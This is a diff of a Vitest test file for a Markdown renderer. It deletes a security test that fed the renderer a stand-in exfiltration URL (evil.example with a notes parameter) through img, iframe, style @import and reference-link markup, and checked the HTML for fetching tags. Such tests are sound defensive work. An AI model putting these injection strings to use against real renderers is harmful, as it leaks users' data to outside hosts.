@@ -1,6 +1,4 @@
-import { render } from "svelte/server";
 import { describe, expect, it } from "vitest";
-import Markdown from "./Markdown.svelte";
 import { linkKind, parseMarkdown, type Block, type Inline } from "./markdown";
 
 /** A tree as short text: `p(text)`, `h1(…)`, `[text](target)`. */
@@ -40,13 +38,6 @@ describe("Markdown", () => {
 
   it("shows images as links, so that nothing is fetched", () => {
     expect(show(parseMarkdown("![plan](https://example.org/p.png) ![[map.png]]"))).toBe("p([plan](https://example.org/p.png) [map.png](map.png))");
-  });
-
-  it("draws nothing that a browser fetches", () => {
-    const sent = "https://evil.example/?notes=4711";
-    const html = render(Markdown, { props: { source: `![a](${sent}) <img src="${sent}"> <iframe src="${sent}"></iframe> [b](${sent})\n\n<style>@import "${sent}"</style>\n\n[c]: ${sent}\n\n![d][c]` } }).body;
-    expect(html).not.toMatch(/<(img|iframe|style|link|video|audio|object|embed|script)\b|\b(src|srcset|style|data|poster)=/);
-    expect(html).toContain(`href="${sent}"`);
   });
 
   it("keeps the text of HTML, but none of it", () => {
